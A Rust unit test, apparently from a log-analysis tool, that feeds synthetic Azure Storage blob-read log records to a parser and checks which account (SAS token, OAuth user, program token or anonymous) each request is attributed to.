fn what_a_request_to_a_store_of_azure_was_let_in_by_is_its_account() {
    let record = |identity: serde_json::Value| {
        let told = json!({"time": "2026-03-10T11:00:00Z", "resourceId": "/x", "category": "StorageRead", "operationName": "GetBlob",
            "statusCode": 200, "callerIpAddress": "203.0.113.77:4444", "identity": identity,
            "properties": {"accountName": "hc-store", "objectKey": "/hc-store/hr/x.csv", "responseBodySize": 2_000_000}});
        format!("{told}\n")
    };
    let accounts = |identity| shown(&[("blob.json", &record(identity))], |t| t.accounts.to_vec());
    assert_eq!(
        accounts(json!({"type": "SAS", "tokenHash": "key1(AB12),SasSignature(CD34)"})),
        [["key1(AB12),SasSignature(CD34)"]]
    );
    let user = json!({"type": "OAuth", "tokenHash": "EF56", "requester": {"upn": "ann@hc.example"}});
    assert_eq!(accounts(user), [["hc.example\\ann"]]);
    assert_eq!(accounts(json!({"type": "OAuth", "tokenHash": "EF56"})), [["EF56"]], "a program's");
    assert_eq!(accounts(json!({"type": "Anonymous"})), [[""; 0]], "open to all");
}
